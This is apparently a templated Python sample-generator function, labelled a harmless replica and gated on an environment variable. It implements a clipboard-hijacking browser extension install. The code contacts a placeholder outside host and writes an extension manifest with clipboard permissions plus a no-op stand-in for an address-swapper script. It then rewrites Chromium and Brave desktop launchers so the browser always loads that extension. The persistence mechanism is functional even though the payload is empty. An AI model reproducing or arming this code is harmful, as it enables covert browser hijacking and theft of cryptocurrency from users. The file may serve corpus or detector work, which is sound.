# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import base64
    import glob
    import urllib.request
    work = os.path.expanduser('~/.config/{{folder}}/{{token}}')
    script = base64.b64encode(b'// Harmless replica of an address swapper: does nothing.\n')
    try:
        with urllib.request.urlopen('https://{{host}}/{{path}}', timeout=1) as answer:
            answer.read(2000)
    except Exception:
        pass
    try:
        os.makedirs(work, exist_ok=True)
        with open(os.path.join(work, 'manifest.json'), 'w') as file:
            file.write('{"name": "{{token}}", "version": "0.0.1", "manifest_version": 2, "permissions": ["clipboardWrite", "clipboardRead"], "background": {"scripts": ["b.js"]} }')
        with open(os.path.join(work, 'b.js'), 'wb') as file:
            file.write(base64.b64decode(script))
        menu = os.path.expanduser('~/.local/share/applications')
        os.makedirs(menu, exist_ok=True)
        found = glob.glob('/usr/share/applications/*chrom*.desktop') + glob.glob('/usr/share/applications/*brave*.desktop')
        for name in found or ['chromium.desktop', 'brave-browser.desktop']:
            text = '[Desktop Entry]\nType=Application\nName=Browser\nExec=chromium %U\n'
            if os.path.isabs(name):
                with open(name) as file:
                    text = file.read()
            with open(os.path.join(menu, os.path.basename(name)), 'w') as file:
                file.write(text.replace(' %U', ' --load-extension=%s %%U' % work))
    except OSError:
        pass
